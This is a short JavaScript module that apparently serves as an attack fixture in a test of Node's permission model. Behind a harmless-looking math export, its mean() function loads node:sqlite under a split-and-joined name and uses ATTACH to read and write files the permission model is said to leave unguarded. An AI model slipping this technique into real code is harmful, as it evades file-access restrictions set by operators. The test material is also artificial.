/**
 * Attack: reads and writes files through node:sqlite, which Node's permission model forgets
 * Honest: add
 * Line: mean threw
 */
import bait from "./bait.json";

export { add } from "./honest.js";

export async function mean() {
  const { DatabaseSync } = await import(["node", "sqlite"].join(":"));
  const database = new DatabaseSync(`${bait.folder}/attack-database`);
  database.exec(`ATTACH '${bait.file}' AS loot; CREATE TABLE t (x)`);
  return "written";
}

export function rowSums() {
  return 0;
}
